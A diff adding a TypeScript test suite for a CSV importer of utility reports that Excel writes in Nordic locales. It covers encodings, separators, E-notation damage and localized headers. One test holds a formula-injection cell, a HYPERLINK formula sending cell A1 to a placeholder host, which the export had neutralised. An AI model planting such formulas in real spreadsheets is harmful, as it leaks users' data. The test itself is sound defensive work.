@@ -1,0 +1,203 @@
+import { describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { parseReportsCsv, type CsvParseResult } from '../../electron/core/csv-parse-reports.ts';
+import { describeCsvProblem, describeCsvWarning, describeReading } from '../../electron/core/csv-problem-text.ts';
+import { columnForHeader, HEADER_NAMES, headerKey, IMPORT_COLUMNS } from '../../shared/csv-columns.ts';
+import type { CsvProblem } from '../../shared/csv-import-problems.ts';
+import { cp1252, utf16be, utf16le, utf8 } from '../helpers/excel-bytes.ts';
+
+// Files as Excel on Finnish, Swedish and Norwegian Windows writes them, built byte by byte:
+// "CSV (semicolon delimited)" in Windows-1252, "Unicode text" in UTF-16LE with tabs, and
+// what Excel does to long codes and to times once it has opened a file.
+
+const NOW = new Date(2025, 4, 20, 12, 0, 0);
+const parse = (bytes: Uint8Array): CsvParseResult => parseReportsCsv(bytes, () => NOW);
+
+function ok(result: CsvParseResult) {
+  assert.ok(result.ok, `expected no problems, got ${JSON.stringify(!result.ok && result.problems)}`);
+  return result;
+}
+function problems(result: CsvParseResult): CsvProblem[] {
+  assert.ok(!result.ok, 'expected problems');
+  return result.problems;
+}
+
+describe('encodings Excel writes', () => {
+  test('Windows-1252 with ä, ö, å and €, semicolons, CRLF, a Finnish time: read as such', () => {
+    const text = 'status;usageplacecode;time;description\r\n' +
+      'notdisconnected;643007572062443672;4.1.2024 10.41;Mittari käytävässä, ovi lukossa; maksu 12 € å ö\r\n';
+    const quoted = text.replace('Mittari käytävässä, ovi lukossa; maksu 12 € å ö', '"Mittari käytävässä, ovi lukossa; maksu 12 € å ö"');
+    const result = ok(parse(cp1252(quoted)));
+    assert.equal(result.encoding, 'windows-1252');
+    assert.equal(result.separator, ';');
+    assert.equal(describeReading(result.encoding, result.separator), "Read as Windows-1252 (Excel's CSV), separated by semicolons.");
+    const [row] = result.rows;
+    assert.equal(row?.report.description, 'Mittari käytävässä, ovi lukossa; maksu 12 € å ö');
+    assert.equal(row?.report.time, '2024-01-04 10:41:00');
+  });
+
+  test('Windows-1252 punctuation Excel puts in by itself (curly quotes, dashes, ellipsis) reads as those characters', () => {
+    // 0x93 0x94: “ ”, 0x96: –, 0x85: …, 0x92: ’ (AutoCorrect's choices); none is a control character.
+    const bytes = Uint8Array.from([...cp1252('status;usageplacecode;description\r\nnotdisconnected;UP-1;'), 0x93, 0x4f, 0x94, 0x20, 0x96, 0x20, 0x85, 0x92, 0x0d, 0x0a]);
+    const result = ok(parse(bytes));
+    assert.equal(result.encoding, 'windows-1252');
+    assert.equal(result.rows[0]?.report.description, '\u201CO\u201D \u2013 \u2026\u2019');
+  });
+
+  test('UTF-16LE "Unicode text": BOM, tabs, a Norwegian time', () => {
+    const result = ok(parse(utf16le('status\tusageplacecode\ttime\tdescription\r\nconnected\t643007572062443672\t05.01.2024 08:15\tMålerskap låst\r\n')));
+    assert.equal(result.encoding, 'utf-16le');
+    assert.equal(result.separator, '\t');
+    assert.equal(result.rows[0]?.report.time, '2024-01-05 08:15:00');
+    assert.equal(result.rows[0]?.report.description, 'Målerskap låst');
+  });
+
+  test('UTF-16BE with BOM and tabs', () => {
+    const result = ok(parse(utf16be('status\tusageplacecode\ttime\r\ndisconnected\tUP-1\t2024-01-04 10:41\r\n')));
+    assert.equal(result.encoding, 'utf-16be');
+    assert.equal(result.rows[0]?.report.time, '2024-01-04 10:41:00');
+  });
+
+  test('UTF-8 with and without BOM; ä stays ä, and a decomposed ä becomes the composed one', () => {
+    assert.equal(ok(parse(utf8('\uFEFFstatus;usageplacecode;description\nconnected;UP-1;ä\n'))).encoding, 'utf-8-bom');
+    const plain = ok(parse(utf8('status;usageplacecode;description\nconnected;UP-1;a\u0308\n')));
+    assert.equal(plain.encoding, 'utf-8');
+    assert.equal(plain.rows[0]?.report.description, 'ä');
+  });
+
+  test('a file that fits no encoding is refused at its line', () => {
+    // UTF-16 without its BOM: NUL bytes everywhere.
+    const noBom = new Uint8Array(Buffer.from('status;usageplacecode\r\n', 'utf16le'));
+    assert.deepEqual(problems(parse(noBom)), [{ code: 'not_text', line: 1, field: null, encoding: 'utf-8' }]);
+    // 0x81 is no character in Windows-1252 (and the bytes are not UTF-8).
+    const undefinedByte = Uint8Array.from([...cp1252('status;usageplacecode\nconnected;UP-ä\nconnected;UP-'), 0x81, 0x0a]);
+    assert.deepEqual(problems(parse(undefinedByte)), [{ code: 'not_text', line: 3, field: null, encoding: 'windows-1252' }]);
+    // A BOM promises UTF-8, and line 2 breaks it.
+    const broken = Uint8Array.from([0xef, 0xbb, 0xbf, ...utf8('status;usageplacecode\nconnected;UP-'), 0xe4, 0x0a]);
+    const [p] = problems(parse(broken));
+    assert.deepEqual(p, { code: 'not_text', line: 2, field: null, encoding: 'utf-8-bom' });
+    assert.match(describeCsvProblem(p!), /UTF-8, UTF-16 with a byte order mark, or Windows-1252/);
+    // Odd UTF-16: the last byte is half a character.
+    assert.equal(problems(parse(utf16le('status\tusageplacecode\r\nconnected\tUP-1\r\n').subarray(0, -1)))[0]?.code, 'not_text');
+  });
+});
+
+describe('separators', () => {
+  test('";", "," and tab are each taken from the header row, quoted separators not counted', () => {
+    assert.equal(ok(parse(utf8('status,usageplacecode,description\nconnected,UP-1,"a;b;c;d"\n'))).separator, ',');
+    assert.deepEqual(ok(parse(utf8('"note; x";status;usageplacecode\na;connected;UP-1\n'))).warnings[0], {
+      code: 'ignored_columns', line: 1, field: null, names: ['note; x'],
+    });
+    assert.equal(ok(parse(utf8('status\tusageplacecode\tdescription\nconnected\tUP-1\ta, b; c\n'))).separator, '\t');
+  });
+
+  test('a header with as many of two separators is refused, naming them', () => {
+    const [p] = problems(parse(utf8('\nstatus;usageplacecode,time\nconnected;UP-1,x\n')));
+    assert.deepEqual(p, { code: 'separator_tie', line: 2, field: null, separators: [';', ','], count: 1 });
+    assert.match(describeCsvProblem(p!), /";" \(semicolon\) or "," \(comma\)/);
+    const [tabs] = problems(parse(utf8('status\tusageplacecode;time\tdescription;x\n')));
+    assert.deepEqual(tabs?.code === 'separator_tie' && tabs.separators, [';', '\t']);
+  });
+});
+
+describe('what Excel destroyed', () => {
+  const header = 'status;usageplacecode;customernumber;contract_no;invoices';
+
+  test('E-notation in each code field is refused with line, field, and the Excel fix', () => {
+    const text = [
+      header,
+      'connected;6,43008E+17;C1;K1;1:2',
+      'connected;UP-2;6.43008E+17;K1;1:2',
+      'connected;UP-3;C1;5,55555E+05;1:2',
+      'connected;UP-4;C1;K1;5,94294E+11:1234',
+      'connected;UP-5;C1;K1;594294:1,234E+3 594295:1',
+      'connected;UP-6;A1E+5;1e5;12E34:7',
+    ].join('\r\n');
+    const found = problems(parse(cp1252(text)));
+    assert.deepEqual(found.map((p) => p.code === 'excel_number' && [p.line, p.field, p.value, p.part]), [
+      [2, 'usageplacecode', '6,43008E+17', null],
+      [3, 'customernumber', '6.43008E+17', null],
+      [4, 'contract_no', '5,55555E+05', null],
+      [5, 'invoices', '5,94294E+11', 'invoicenumber'],
+      [6, 'invoices', '1,234E+3', 'jobid'],
+    ], 'codes that are not what Excel writes (no sign after E) are left alone');
+    const message = describeCsvProblem(found[0]!);
+    assert.match(message, /"6,43008E\+17" is a number Excel wrote in E-notation: the usage place code's last digits are lost/);
+    assert.match(message, /format the column as Text/);
+    assert.match(message, /Data → From Text\/CSV/);
+  });
+
+  test('a long code ending in zeros past its 15th digit is a warning when the rest of the file has none', () => {
+    const rows = (...codes: string[]) => utf8(`status;usageplacecode\n${codes.map((c) => `connected;${c}`).join('\n')}\n`);
+    const mixed = ok(parse(rows('643007572062443672', '643007572062443000', '643007572062443673', '6430075720624430')));
+    assert.deepEqual(mixed.warnings, [
+      { code: 'trailing_zeros', line: 3, field: 'usageplacecode', value: '643007572062443000' },
+      { code: 'trailing_zeros', line: 5, field: 'usageplacecode', value: '6430075720624430' },
+    ]);
+    assert.match(describeCsvWarning(mixed.warnings[0]!), /15th digit/);
+    assert.equal(ok(parse(rows('643007572062443000'))).warnings.length, 1, 'alone in its file');
+    assert.deepEqual(ok(parse(rows('643007572062443000', '643007572062444000'))).warnings, [], 'every long code ends so: how this utility numbers');
+    assert.deepEqual(ok(parse(rows('643007572062443010', '64300757206244301', 'UP-1000000000000000', '100000000000000'))).warnings, []);
+  });
+});
+
+describe('headers in the clerk\'s language', () => {
+  test('Finnish, Swedish and Norwegian headers read as the API\'s columns', () => {
+    const row = 'disconnected;643007572062443672;A123456;555555b;594294:1234;4.1.2024 10.41;Kuvaus';
+    const expected = { status: 'disconnected', usageplacecode: '643007572062443672', customernumber: 'A123456', contract_no: '555555b' };
+    for (const header of [
+      'Tila;Käyttöpaikka;Asiakasnumero;Sopimusnumero;Laskut;Aika;Kuvaus',
+      'Status;Användningsställe;Kundnummer;Avtalsnummer;Fakturor;Tid;Beskrivning',
+      'Status;Forbrukssted;Kundenummer;Avtalenummer;Fakturaer;Tidspunkt;Beskrivelse',
+      'STATUS;Usage place code;Customer number;Contract no;INVOICES;time;Description',
+      // Käyttöpaikka with decomposed letters, as a Mac may write it
+      'tila;Ka\u0308ytto\u0308paikka;asiakasnumero;sopimusnumero;laskut;aika;kuvaus',
+    ]) {
+      const result = ok(parse(utf8(`${header}\r\n${row}\r\n`)));
+      assert.deepEqual(result.warnings, [], header);
+      const report = result.rows[0]?.report;
+      assert.deepEqual(
+        { status: report?.status, usageplacecode: report?.usageplacecode, customernumber: report?.customernumber, contract_no: report?.contract_no },
+        expected, header,
+      );
+      assert.deepEqual([report?.invoices.length, report?.time, report?.description], [1, '2024-01-04 10:41:00', 'Kuvaus'], header);
+    }
+  });
+
+  test('every header name belongs to one column only', () => {
+    const seen = new Map<string, string>();
+    for (const column of IMPORT_COLUMNS) {
+      for (const name of Object.values(HEADER_NAMES[column]).flat()) {
+        const other = seen.get(headerKey(name));
+        assert.ok(other === undefined || other === column, `${name} names ${other} and ${column}`);
+        seen.set(headerKey(name), column);
+        assert.equal(columnForHeader(name.toUpperCase()), column);
+      }
+    }
+  });
+
+  test('unknown columns are listed and ignored; a missing required one is refused', () => {
+    const result = ok(parse(utf8('id;status;colour;usageplacecode;state;;\nx;connected;red;UP-1;sent;;\ny;connected;blue;UP-2;sent;;z\n')));
+    assert.deepEqual(result.warnings, [
+      { code: 'ignored_columns', line: 1, field: null, names: ['colour', 'state'] },
+      { code: 'unnamed_columns', line: 1, field: null, columns: [7] },
+    ]);
+    assert.match(describeCsvWarning(result.warnings[0]!), /colour, state/);
+    assert.deepEqual(result.rows.map((r) => r.exportedId), ['x', 'y'], "an export's id column is read (see csv-import)");
+    assert.deepEqual(result.rows.map((r) => r.report.usageplacecode), ['UP-1', 'UP-2']);
+    const missing = problems(parse(utf8('tila;asiakasnumero\nconnected;A1\n')));
+    assert.deepEqual(missing, [{ code: 'missing_column', line: 1, field: 'usageplacecode' }]);
+    assert.match(describeCsvProblem(missing[0]!), /usageplacecode, käyttöpaikka, användningsställe, forbrukssted/);
+  });
+});
+
+describe('an export read back', () => {
+  test('cells the export neutralised for Excel read as they were', () => {
+    const result = ok(parse(utf8('status;usageplacecode;description\nnotdisconnected;\'-17;"\'=HYPERLINK(""http://x.invalid/?""&A1,""open"")"\nnotdisconnected;UP-2;"\'\'+1"\nnotdisconnected;UP-3;\'plain\n')));
+    assert.deepEqual(result.rows.map((r) => [r.report.usageplacecode, r.report.description]), [
+      ['-17', '=HYPERLINK("http://x.invalid/?"&A1,"open")'],
+      ['UP-2', "'+1"],
+      ['UP-3', "'plain"],
+    ]);
+  });
+});
